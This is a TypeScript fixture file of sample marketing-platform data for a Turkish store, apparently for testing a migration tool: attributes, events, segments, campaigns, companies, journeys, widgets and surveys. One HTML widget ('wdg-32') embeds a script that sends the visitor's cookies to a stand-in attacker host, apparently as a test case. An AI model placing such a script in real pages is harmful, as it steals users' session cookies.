/**
 * Fixed definitions of the sample app: profile attributes, events, segments, tags, campaigns,
 * journeys, widgets, surveys, owners and companies. Users refer to these by code or id.
 */

export const APP_NAME = "Örnek Mağaza (sample)";
export const SOURCE_TIME_ZONE = "Europe/Istanbul";

/** The events of the sample lie in this window (Istanbul local dates, end exclusive). */
export const EVENT_WINDOW = { start: "2024-01-01", months: 6 } as const;

export const PULLED_AT = "2024-07-01T04:12:00.000Z";

interface AttributeDefinition {
  code: string;
  dataType: string;
  name: string;
  isArray?: boolean;
}

export const STANDARD_ATTRIBUTES: AttributeDefinition[] = [
  { code: "name", dataType: "STRING", name: "Name" },
  { code: "surname", dataType: "STRING", name: "Surname" },
  { code: "email", dataType: "STRING", name: "Email" },
  { code: "msisdn", dataType: "STRING", name: "MSISDN" },
  { code: "dateOfBirth", dataType: "DATE", name: "Date of Birth" },
  { code: "gender", dataType: "INTEGER", name: "Gender" },
  { code: "maritalStatus", dataType: "INTEGER", name: "Marital Status" },
  { code: "city", dataType: "STRING", name: "City" },
  { code: "country", dataType: "STRING", name: "Country" },
  { code: "language", dataType: "STRING", name: "Language" },
];

/**
 * Custom attributes of every Netmera data type, arrays with few and with many distinct values,
 * and a long text. One attribute has the type OBJECT and values that mix numbers and words, so
 * the mapping must mark it for review.
 */
export const CUSTOM_ATTRIBUTES: AttributeDefinition[] = [
  { code: "loyaltyPoints", dataType: "INTEGER", name: "Sadakat Puanı" },
  { code: "lifetimeValue", dataType: "NUMBER", name: "Toplam Harcama" },
  { code: "isPremium", dataType: "BOOLEAN", name: "Premium Üye" },
  { code: "lastPurchaseDate", dataType: "DATE", name: "Son Alışveriş Tarihi" },
  { code: "favoriteCategories", dataType: "STRING", name: "Favori Kategoriler", isArray: true },
  { code: "visitedStores", dataType: "STRING", name: "Ziyaret Edilen Mağazalar", isArray: true },
  { code: "customerNote", dataType: "STRING", name: "Müşteri Notu" },
  { code: "membershipTier", dataType: "STRING", name: "Üyelik Seviyesi" },
  { code: "companyId", dataType: "STRING", name: "Firma Kodu" },
  { code: "accountManager", dataType: "STRING", name: "Müşteri Temsilcisi" },
  { code: "legacyScore", dataType: "OBJECT", name: "Eski Skor" },
  { code: "referralCode", dataType: "STRING", name: "Davet Kodu" },
];

interface EventAttributeDefinition {
  code: string;
  dataType: string;
  name: string;
  isArray?: boolean;
}

interface EventDefinition {
  code: string;
  name: string;
  attributes: EventAttributeDefinition[];
}

export const STANDARD_EVENTS: EventDefinition[] = [
  { code: "n:oa", name: "Open App", attributes: [] },
  {
    code: "n:po",
    name: "Push Open",
    attributes: [{ code: "notificationKey", dataType: "STRING", name: "Notification Key" }],
  },
];

export const CUSTOM_EVENTS: EventDefinition[] = [
  {
    code: "page_view",
    name: "Sayfa Görüntüleme",
    attributes: [
      { code: "page", dataType: "STRING", name: "Sayfa" },
      { code: "durationSec", dataType: "INTEGER", name: "Süre (sn)" },
    ],
  },
  {
    code: "search",
    name: "Arama",
    attributes: [{ code: "term", dataType: "STRING", name: "Arama Terimi" }],
  },
  {
    code: "add_to_cart",
    name: "Sepete Ekle",
    attributes: [
      { code: "productId", dataType: "STRING", name: "Ürün" },
      { code: "price", dataType: "NUMBER", name: "Fiyat" },
      { code: "quantity", dataType: "INTEGER", name: "Adet" },
    ],
  },
  {
    code: "purchase",
    name: "Satın Alma",
    attributes: [
      { code: "orderId", dataType: "STRING", name: "Sipariş No" },
      { code: "amount", dataType: "NUMBER", name: "Tutar" },
      { code: "currency", dataType: "STRING", name: "Para Birimi" },
      { code: "items", dataType: "STRING", name: "Ürünler", isArray: true },
    ],
  },
  {
    code: "survey_response",
    name: "Anket Yanıtı",
    attributes: [
      { code: "surveyId", dataType: "STRING", name: "Anket" },
      { code: "questionId", dataType: "STRING", name: "Soru No" },
      { code: "question", dataType: "STRING", name: "Soru" },
      { code: "answer", dataType: "STRING", name: "Yanıt" },
    ],
  },
];

/** Appears in the event files but in no event definition: the mapping must flag it. */
export const UNDEFINED_EVENT_CODE = "legacy_checkout";

export type SegmentKey = "vip" | "istanbul" | "cart" | "newsletter" | "europe" | "ios";

export interface SegmentDefinition {
  key: SegmentKey;
  id: number;
  name: string;
  type: "STANDARD" | "CONNECTORS_SEGMENT";
  dynamic: boolean;
  ruleText: string;
  /** Membership file in the snapshot; null for CONNECTORS_SEGMENT, whose members cannot be exported. */
  membershipFile: string | null;
}

export const SEGMENTS: SegmentDefinition[] = [
  {
    key: "vip",
    id: 1001,
    name: "VIP Müşteriler",
    type: "STANDARD",
    dynamic: false,
    ruleText: "membershipTier IN ('gold', 'platinum')",
    membershipFile: "segment-users/1001.csv",
  },
  {
    key: "istanbul",
    id: 1002,
    name: "İstanbul Kullanıcıları",
    type: "STANDARD",
    dynamic: true,
    ruleText: "city = 'İstanbul'",
    membershipFile: "segment-users/1002.csv",
  },
  {
    key: "cart",
    id: 1003,
    name: "Sepeti Terk Edenler",
    type: "STANDARD",
    dynamic: true,
    ruleText: "event add_to_cart in the last 30 days AND NOT event purchase in the last 30 days",
    membershipFile: "segment-users/1003.csv",
  },
  {
    key: "newsletter",
    id: 1004,
    name: "Bülten Aboneleri",
    type: "STANDARD",
    dynamic: false,
    ruleText: "tag = 'newsletter'",
    membershipFile: "segment-users/1004.csv",
  },
  {
    key: "europe",
    id: 1005,
    name: "Avrupa Kullanıcıları",
    type: "STANDARD",
    dynamic: true,
    ruleText: "country IN (EU/EEA countries)",
    membershipFile: "segment-users/1005.json",
  },
  {
    key: "ios",
    id: 1006,
    name: "Tüm iOS Kullanıcıları",
    type: "CONNECTORS_SEGMENT",
    dynamic: true,
    ruleText: "installation.platform = IOS (connector segment)",
    membershipFile: null,
  },
];

export type TagKey = "vip" | "newsletter" | "beta-tester" | "black-friday-2024" | "sadık-müşteri";

export const TAGS: TagKey[] = [
  "vip",
  "newsletter",
  "beta-tester",
  "black-friday-2024",
  "sadık-müşteri",
];

export interface CampaignDefinition {
  id: string;
  notificationKey: string;
  name: string;
  channel: "PUSH" | "EMAIL" | "SMS" | "IN_APP";
  status: "FINISHED" | "STOPPED";
  title: string;
  content: string;
  schedule: { type: "ONE_TIME" | "RECURRING"; startDate: string; endDate: string | null };
  targetSegments: number[];
  assets: { type: "image" | "video"; url: string; sizeBytes: number }[];
}

export const CAMPAIGNS: CampaignDefinition[] = [
  {
    id: "cmp-501",
    notificationKey: "84512",
    name: "Yaz İndirimi",
    channel: "PUSH",
    status: "FINISHED",
    title: "Yaz indirimi başladı!",
    content: "Seçili ürünlerde %40'a varan indirim. Kaçırmayın, stoklar sınırlı.",
    schedule: { type: "ONE_TIME", startDate: "2024-06-03T09:00:00+03:00", endDate: null },
    targetSegments: [1001],
    assets: [{ type: "image", url: "https://cdn.example.com/yaz.jpg", sizeBytes: 820_000 }],
  },
  {
    id: "cmp-502",
    notificationKey: "84530",
    name: "Haftalık Bülten #23",
    channel: "EMAIL",
    status: "FINISHED",
    title: "Bu hafta sizin için seçtiklerimiz",
    content: "<h1>Merhaba {{name}}</h1><p>Yeni sezon ürünleri ve size özel fırsatlar.</p>",
    schedule: {
      type: "RECURRING",
      startDate: "2024-05-06T10:00:00+03:00",
      endDate: "2024-06-24T10:00:00+03:00",
    },
    targetSegments: [1004],
    assets: [{ type: "image", url: "https://cdn.example.com/bulten.png", sizeBytes: 1_450_000 }],
  },
  {
    id: "cmp-503",
    notificationKey: "84577",
    name: "Sepet Hatırlatma SMS",
    channel: "SMS",
    status: "FINISHED",
    title: "",
    content: "Sepetinizde ürün kaldı! Siparişinizi bugün tamamlayın: https://ornek.example/sepet",
    schedule: { type: "ONE_TIME", startDate: "2024-06-10T18:30:00+03:00", endDate: null },
    targetSegments: [1003],
    assets: [],
  },
  {
    id: "cmp-504",
    notificationKey: "84601",
    name: "Yeni Koleksiyon Videosu",
    channel: "IN_APP",
    status: "FINISHED",
    title: "Sonbahar koleksiyonu",
    content: "Yeni koleksiyonumuzu izleyin ve ilk siparişte kargo bedava.",
    schedule: { type: "ONE_TIME", startDate: "2024-06-15T12:00:00+03:00", endDate: null },
    targetSegments: [1002],
    assets: [
      { type: "video", url: "https://cdn.example.com/koleksiyon.mp4", sizeBytes: 14_200_000 },
      { type: "image", url: "https://cdn.example.com/kapak.jpg", sizeBytes: 310_000 },
    ],
  },
  {
    id: "cmp-505",
    notificationKey: "84655",
    name: "Black Friday Erken Erişim",
    channel: "PUSH",
    status: "FINISHED",
    title: "Black Friday erken erişim sizde",
    content: "VIP ve Avrupa üyelerimize özel: indirimler 24 saat önce başlıyor.",
    schedule: { type: "ONE_TIME", startDate: "2024-06-21T20:00:00+03:00", endDate: null },
    targetSegments: [1001, 1005],
    assets: [{ type: "image", url: "https://cdn.example.com/bf.gif", sizeBytes: 2_300_000 }],
  },
  {
    id: "cmp-506",
    notificationKey: "84700",
    name: "Test Kampanyası (durduruldu)",
    channel: "PUSH",
    status: "STOPPED",
    title: "test",
    content: "Bu kampanya test amaçlıdır.",
    schedule: { type: "ONE_TIME", startDate: "2024-06-28T11:00:00+03:00", endDate: null },
    targetSegments: [],
    assets: [],
  },
];

export const OWNERS = [
  { name: "Sistem", surname: "Yöneticisi", email: "admin@example.com" },
  { name: "Selin", surname: "Kaya", email: "selin.kaya@example.com.tr" },
  { name: "Burak", surname: "Öztürk", email: "Burak.Ozturk@example.com.tr" },
  { name: "Deniz", surname: "Aydın", email: "deniz.aydin@example.com.tr" },
] as const;

export const COMPANIES = [
  {
    companyId: "C-100",
    name: "Anadolu Tekstil A.Ş.",
    domain: "anadolutekstil.example.com.tr",
    city: "Bursa",
    country: "TR",
    phone: "+90 224 555 01 00",
    taxNumber: "1234567890",
  },
  {
    companyId: "C-101",
    name: "Boğaziçi Yazılım Ltd. Şti.",
    domain: "bogazici-yazilim.example.com.tr",
    city: "İstanbul",
    country: "TR",
    phone: "0212 555 02 00",
    taxNumber: "2345678901",
  },
  {
    companyId: "C-102",
    name: "Ege Gıda San. ve Tic. A.Ş.",
    domain: "egegida.example.com.tr",
    city: "İzmir",
    country: "TR",
    phone: "+902325550300",
    taxNumber: "",
  },
  {
    companyId: "C-103",
    name: "Rhein Logistik GmbH",
    domain: "rhein-logistik.example.de",
    city: "Köln",
    country: "DE",
    phone: "+49 221 5550400",
    taxNumber: "DE123456789",
  },
] as const;

/** A company id that users refer to but companies.csv does not contain. */
export const UNKNOWN_COMPANY_ID = "C-999";

export const JOURNEYS = [
  {
    id: "jrn-11",
    name: "Hoş Geldin Yolculuğu",
    status: "ACTIVE",
    entryCondition: "event n:oa for the first time",
    conversionEvent: "purchase",
    steps: [
      { type: "send", channel: "PUSH", content: "Hoş geldin! İlk alışverişine %10 indirim." },
      { type: "wait", duration: "P2D" },
      { type: "condition", rule: "event purchase happened" },
      { type: "send", channel: "EMAIL", content: "Sepetini unutma, indirimin hâlâ geçerli." },
    ],
    stats: { entered: 5120, converted: 830, conversionCounting: "once per user" },
  },
  {
    id: "jrn-12",
    name: "Sepet Kurtarma",
    status: "PAUSED",
    entryCondition: "event add_to_cart without purchase within 1 day",
    conversionEvent: "purchase",
    steps: [
      { type: "send", channel: "SMS", content: "Sepetinde ürün kaldı." },
      { type: "wait", duration: "PT6H" },
      { type: "send", channel: "PUSH", content: "Son şans: sepetindeki ürünler tükenmek üzere." },
    ],
    stats: { entered: 2210, converted: 301, conversionCounting: "once per user" },
  },
];

export const WIDGETS = [
  {
    id: "wdg-31",
    name: "Bülten Kayıt Formu",
    type: "FORM",
    trigger: "page_view page = '/kampanyalar'",
    elements: [
      { type: "text", text: "Bültenimize katılın, ilk siparişte %10 indirim kazanın." },
      { type: "input", field: "email", label: "E-posta" },
      { type: "button", text: "Kaydol", action: "submit" },
    ],
  },
  {
    id: "wdg-32",
    name: "Eski Pop-up (HTML)",
    type: "HTML",
    trigger: "n:oa",
    elements: [
      {
        type: "html",
        text: '<div class="promo">Kampanya!</div><script>document.location="https://evil.example/?c="+document.cookie</script>',
      },
    ],
  },
];

export const SURVEYS = [
  {
    id: "srv-7",
    name: "Memnuniyet Anketi",
    questions: [
      {
        id: "q1",
        title: "Alışveriş deneyiminizi nasıl değerlendirirsiniz?",
        type: "rating",
        options: ["1", "2", "3", "4", "5"],
      },
      {
        id: "q2",
        title: "Bizi bir arkadaşınıza önerir misiniz?",
        type: "single_choice",
        options: ["Evet", "Hayır", "Belki"],
      },
      {
        id: "q3",
        title: "Neyi geliştirmemizi istersiniz?",
        type: "text",
        options: [],
        displayLogic: "show when q1 <= 3",
      },
    ],
  },
];
